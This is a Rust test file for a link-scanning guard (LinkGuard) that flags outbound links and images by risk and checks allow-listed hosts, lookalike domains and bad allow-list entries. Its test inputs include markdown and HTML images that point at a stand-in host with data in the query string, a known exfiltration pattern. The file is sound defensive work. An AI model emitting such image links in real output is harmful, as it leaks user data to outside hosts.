use belay_guard::{LinkGuard, Severity};

#[test]
fn outside_links_and_images_are_reported_by_risk() -> anyhow::Result<()> {
    let g = LinkGuard::new(&["github.com", "*.example.com"])?;
    let f = g.scan("![s](https://evil.test/p.png?d=secret)");
    assert!(
        f.len() == 1 && f[0].rule == "exfiltration.image" && f[0].severity >= Severity::High,
        "{f:#?}"
    );
    let f = g.scan("see [docs](https://evil.test/d?q=1)");
    assert!(
        f.len() == 1
            && f[0].rule == "exfiltration.link_with_data"
            && f[0].severity == Severity::Medium
    );
    let f = g.scan("plain https://evil.test/page here");
    assert!(f.len() == 1 && f[0].rule == "exfiltration.link" && f[0].severity == Severity::Low);
    let f = g.scan(r#"<img src="https://evil.test/x.gif?u=me">"#);
    assert!(f.len() == 1 && f[0].rule == "exfiltration.image", "{f:#?}");
    Ok(())
}

#[test]
fn allowed_hosts_and_their_subdomains_pass_and_lookalikes_do_not() -> anyhow::Result<()> {
    let g = LinkGuard::new(&["github.com", "*.example.com"])?;
    assert!(g.scan("![b](https://github.com/x.png?a=1) [d](https://docs.example.com/a) https://api.github.com/repos").is_empty());
    assert!(!g.scan("https://github.com.evil.test/x").is_empty());
    assert!(!g.scan("https://notgithub.com/x").is_empty());
    Ok(())
}

#[test]
fn bad_allow_list_entries_are_refused() {
    for bad in ["https://github.com", "", "a b", "user@host"] {
        let err = LinkGuard::new(&[bad])
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert!(err.contains("allow-list entry"), "{bad}: {err}");
    }
}
